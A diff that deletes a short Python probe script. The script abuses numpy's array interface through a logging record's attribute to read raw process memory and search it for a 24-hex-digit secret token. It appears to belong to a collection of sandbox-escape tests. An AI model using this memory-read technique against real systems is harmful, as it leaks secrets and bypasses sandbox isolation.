@@ -1,8 +1,0 @@
-# reaches: a log record's field is named by data
-import json, re
-import numpy as np
-import logging
-name = json.load(open("names.json"))["private"][0].replace("globals", "array_interface")
-value = {"data": (id(len), True), "shape": (1 << 17,), "typestr": "|u1", "version": 3}
-o = logging.makeLogRecord({name: value})
-print(re.findall(rb"t[0-9a-f]{24}", np.array(o).tobytes()))
